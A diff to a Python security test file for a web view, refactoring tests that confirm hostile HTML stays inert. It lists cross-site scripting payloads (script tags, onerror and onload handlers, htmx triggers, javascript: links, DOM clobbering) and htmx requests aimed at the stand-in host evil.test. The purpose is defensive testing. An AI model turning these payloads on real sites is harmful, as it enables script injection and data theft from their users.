@@ -7,7 +7,7 @@ from tests.view.conftest import Flavor, Lab
 
 FLAVORS: tuple[Flavor, ...] = ("same", "opaque", "loose")
 HOSTILE = {
-    "a script": '<script>parent.hacked = window.hacked = 1</script><svg><script>window.hacked = 1</script></svg>',
+    "a script": "<script>parent.hacked = window.hacked = 1</script><svg><script>window.hacked = 1</script></svg>",
     "a handler": '<img src="data:," onerror="window.hacked = 1"><svg onload="window.hacked = 1"></svg>',
     "a handler in a template": '<template><img src="data:," onerror="window.hacked = 1"></template>',
     "a frame": '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><object data="data:text/html,x"></object>',
@@ -15,11 +15,13 @@ HOSTILE = {
     "hx-on": '<b hx-on:click="window.hacked = 1" hx-on::after:process="window.hacked = 1" id="trap">x</b>',
     "a trigger filter": '<b hx-post="tool:boost" hx-trigger="click[window.hacked = 1]" id="trap">x</b>',
     "js values": '<b hx-post="tool:boost" hx-vals="js:{a: window.hacked = 1}" id="trap">x</b>',
-    "a call on load": '<b hx-post="tool:boost" hx-trigger="load"></b><b data-hx-post="tool:boost" data-hx-trigger="load"></b>',
-    "a call when seen": '<b hx-post="tool:boost" hx-trigger="revealed"></b><b hx-get="tool:boost" hx-trigger="every 1ms"></b>',
+    "a call on load": '<b hx-post="tool:boost" hx-trigger="load"></b>',
+    "another call on load": '<b data-hx-post="tool:boost" data-hx-trigger="load"></b>',
+    "a call when seen": '<b hx-post="tool:boost" hx-trigger="revealed"></b>',
+    "a call again and again": '<b hx-get="tool:boost" hx-trigger="every 1ms"></b>',
     "a network address": '<b hx-post="https://evil.test/" id="trap">x</b><b hx-get="/x" hx-trigger="load"></b>',
     "a boosted link": '<a hx-boost="true" href="https://evil.test/" id="trap2">x</a>',
-    "a form that clobbers": '<form onfocusin="window.hacked = 1"><input name="attributes"><input name="getAttributeNames"></form>',
+    "a form that clobbers": '<form onfocusin="window.hacked = 1"><input name="getAttributeNames"></form>',
     "an animation of a link": '<svg><a><set attributeName="href" to="javascript:window.hacked=1"/></a></svg>',
 }
 
@@ -47,7 +49,12 @@ async def test_hostile_markup_in_an_answer_does_nothing(lab: Lab, name: str) -> 
 async def test_a_link_with_code_is_not_followed(lab: Lab, flavor: Flavor) -> None:
     links = "".join(
         f'<a href="{address}">link</a>'
-        for address in ("javascript:window.hacked=1", "&#1;java\nscript:window.hacked=1", "data:text/html,x", "vbscript:x")
+        for address in (
+            "javascript:window.hacked=1",
+            "&#1;java\nscript:window.hacked=1",
+            "data:text/html,x",
+            "vbscript:x",
+        )
     )
     await lab.open_html(f'<div id="w">{links}</div>', flavor)
     for link in await lab.view.locator("a").all():
@@ -96,8 +103,9 @@ async def test_even_a_script_put_in_by_hand_does_not_run(lab: Lab, flavor: Flavo
 
 
 async def test_titles_of_people_are_text(lab: Lab) -> None:
-    await lab.run("() => { lab.board.columns.todo[0].title = '<img src=x onerror=\"window.hacked=1\"> $& <!--inlay:w-head-->' }")
+    title = '<img src=x onerror="window.hacked=1"> $& <!--inlay:w-head-->'
+    await lab.run("(title) => { lab.board.columns.todo[0].title = title }", title)
     await lab.open()
 
-    await lab.shows(["<img src=x onerror=\"window.hacked=1\"> $& <!--inlay:w-head-->"], "#w-card-T-1 .title")
+    await lab.shows([title], "#w-card-T-1 .title")
     assert await lab.inside("() => window.hacked ?? null") is None
